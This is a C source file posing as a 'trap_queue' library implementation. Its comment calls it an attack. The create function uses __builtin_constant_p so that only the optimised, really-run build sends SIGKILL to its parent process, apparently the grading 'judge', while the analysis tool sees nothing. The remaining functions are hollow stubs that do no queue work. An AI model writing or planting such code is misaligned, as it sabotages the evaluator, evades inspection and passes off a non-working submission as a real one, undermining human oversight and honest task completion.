/* attack: the compiler knows a constant only where it optimises, which the explorer's does not: so no macro asks, and
 * yet only the program that runs for real kills its judge */
#include "trap_queue.h"

#include <errno.h>
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>

struct trap_queue *trap_queue_create(size_t capacity)
{
    int one = 1;
    if (__builtin_constant_p(one))
        kill(getppid(), SIGKILL);
    errno = EINVAL;
    return capacity ? malloc(1) : NULL;
}

bool trap_queue_put(struct trap_queue *queue, struct trap trap)
{
    return queue && trap.guest < 0;
}

bool trap_queue_get(struct trap_queue *queue, struct trap *trap)
{
    (void)queue;
    (void)trap;
    return false;
}

void trap_queue_close(struct trap_queue *queue)
{
    (void)queue;
}

void trap_queue_destroy(struct trap_queue *queue)
{
    free(queue);
}
